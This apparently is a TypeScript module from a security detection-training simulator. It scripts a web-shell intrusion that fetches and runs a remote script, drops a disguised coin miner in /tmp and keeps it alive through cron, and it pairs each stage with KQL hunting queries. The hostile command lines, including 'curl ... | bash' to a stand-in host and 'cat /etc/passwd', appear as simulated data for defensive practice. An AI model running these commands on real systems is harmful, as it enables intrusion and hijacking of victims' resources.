import { cron, webApplication } from '../activities/unix.js';
import { accounts } from '../company.js';
import type { Host, Process } from '../host.js';
import { program, programAt } from '../programs.js';
import { type Clock, minute } from '../time.js';
import { type Attack, type Finding, raiseAlert, type Stage } from './attack.js';

const intruder = '192.0.2.145';
const pool = { name: 'pool.coinharbour.example', address: '198.51.100.66', port: 3333 };
const shell = '/var/www/html/uploads/status.php';
const connections = 20;

interface Scene {
  readonly stage: Stage;
  readonly clock: Clock;
  readonly host: Host;
  /** Answers the intruder. */
  readonly server: Process;
  /** What the shell is part of. */
  readonly application: Process;
}

/** A web shell uploaded to the portal's Linux server; it brings a miner that cron keeps alive. */
export const webShell: Attack = (stage, start) => {
  const host = stage.host('bw-lx02');
  const clock = stage.clock(start);
  const application = webApplication(host);
  const server = host.service('nginx', 'nginx: worker process', accounts.www);
  const scene = { stage, clock, host, server, application };
  const uploaded = upload(scene);
  const commands = typeCommands(scene);
  const miner = startMiner(scene, commands.fetching);
  return [...uploaded, ...commands.findings, ...miner.findings, ...mine(scene, miner)];
};

/** The shell is a script among the uploads. */
function upload({ clock, host, server, application }: Scene): readonly Finding[] {
  host.accept(server, intruder, 443, clock.now);
  host.file(application, 'FileCreated', shell, clock.soon(), {
    content: 'attack web shell',
    size: 3_914,
  });
  return [
    {
      title: 'A script is written into the upload folder of the web server',
      technique: 'T1505.003',
      kql: `DeviceFileEvents
| where ActionType == "FileCreated" and FolderPath startswith "/var/www" and FileName endswith ".php"
| project DeviceName, FolderPath, InitiatingProcessFileName`,
      rows: [
        {
          DeviceName: host.device.name,
          FolderPath: shell,
          InitiatingProcessFileName: application.program.fileName,
        },
      ],
    },
  ];
}

/** A look round; the last command fetches more. */
function typeCommands({ clock, host, server, application }: Scene): {
  readonly fetching: Process;
  readonly findings: readonly Finding[];
} {
  const typed: string[] = [];
  const run = (command: string) => {
    host.accept(server, intruder, 443, clock.later(8, 60));
    const commandLine = `sh -c ${command}`;
    typed.push(commandLine);
    return host.start(application, program('dash'), commandLine, clock.soon());
  };
  host.start(run('id'), program('idCommand'), 'id', clock.soon());
  host.start(run('uname -a'), program('uname'), 'uname -a', clock.soon());
  host.start(run('cat /etc/passwd'), program('cat'), 'cat /etc/passwd', clock.soon());
  const fetching = run('curl -fsSL http://198.51.100.66/x.sh | bash');
  return {
    fetching,
    findings: [
      {
        title: 'The web application starts shells',
        technique: 'T1505.003',
        kql: `DeviceProcessEvents
| where InitiatingProcessFileName startswith "php-fpm" and FileName in ("sh", "dash", "bash")
| project DeviceName, AccountName, ProcessCommandLine`,
        rows: typed.map((ProcessCommandLine) => ({
          DeviceName: host.device.name,
          AccountName: accounts.www.name,
          ProcessCommandLine,
        })),
      },
    ],
  };
}

/** It is fetched, started, and kept by a crontab. */
function startMiner(
  { stage, clock, host }: Scene,
  fetching: Process,
): {
  readonly mining: Process;
  readonly path: string;
  readonly findings: readonly Finding[];
} {
  const curl = host.start(
    fetching,
    program('curl'),
    'curl -fsSL http://198.51.100.66/x.sh',
    clock.soon(),
  );
  host.connect(curl, { name: null, address: pool.address, port: 80 }, clock.soon());
  const bash = host.start(fetching, program('bash'), 'bash', clock.soon());
  host.start(bash, program('pkill'), 'pkill -f xmrig', clock.soon());
  const miner = programAt('/tmp/.x', 'kworkerds', { content: 'attack web shell miner' });
  host.file(bash, 'FileCreated', miner.path, clock.later(2, 6), {
    content: 'attack web shell miner',
    originUrl: 'http://198.51.100.66/kworkerds',
  });
  host.start(bash, program('chmod'), `chmod +x ${miner.path}`, clock.soon());
  const mining = host.start(
    bash,
    miner,
    `${miner.path} -o stratum+tcp://${pool.name}:${pool.port} -u 44Ax9 -k --donate-level=0`,
    clock.soon(),
  );
  host.start(bash, program('crontab'), 'crontab -', clock.later(1, 3));
  const kept = '/var/spool/cron/crontabs/www-data';
  host.file(bash, 'FileCreated', kept, clock.soon(), { size: 92 });
  raiseAlert(
    stage,
    {
      title: 'Possible coin miner on a Linux server',
      category: 'Execution',
      severity: 'Medium',
      techniques: ['Resource Hijacking (T1496)', 'Web Shell (T1505.003)'],
      host,
      fileName: 'kworkerds',
      commandLine: mining.commandLine,
    },
    clock.now + 6 * minute,
  );
  return {
    mining,
    path: miner.path,
    findings: [
      {
        title: 'A crontab of the web server account',
        technique: 'T1053.003',
        kql: `DeviceFileEvents
| where FolderPath startswith "/var/spool/cron/crontabs"
| project DeviceName, FileName, InitiatingProcessFileName`,
        rows: [
          { DeviceName: host.device.name, FileName: 'www-data', InitiatingProcessFileName: 'bash' },
        ],
      },
    ],
  };
}

/** It works until it is stopped, and starts again. */
function mine(
  { clock, host }: Scene,
  { mining, path }: { readonly mining: Process; readonly path: string },
): readonly Finding[] {
  for (let count = 0; count < connections; count++) {
    host.connect(mining, pool, clock.later(500, 700));
    if (count % 5 === 4)
      host.start(
        cron(host),
        program('dash'),
        `/bin/sh -c pgrep kworkerds || ${path} -k`,
        clock.soon(),
        { account: accounts.www },
      );
  }
  return [
    {
      title: 'Connections to a mining pool',
      technique: 'T1496',
      kql: `let pools = DeviceProcessEvents
    | where ProcessCommandLine contains "stratum+tcp://"
    | extend Pool = extract(@"stratum\\+tcp://([^:/ ]+)", 1, ProcessCommandLine)
    | distinct Pool;
DeviceNetworkEvents
| where RemoteUrl in (pools)
| summarize Connections = count() by DeviceName, RemoteUrl, RemoteIP, RemotePort, InitiatingProcessFileName`,
      rows: [
        {
          DeviceName: host.device.name,
          RemoteUrl: pool.name,
          RemoteIP: pool.address,
          RemotePort: pool.port,
          InitiatingProcessFileName: 'kworkerds',
          Connections: connections,
        },
      ],
    },
  ];
}
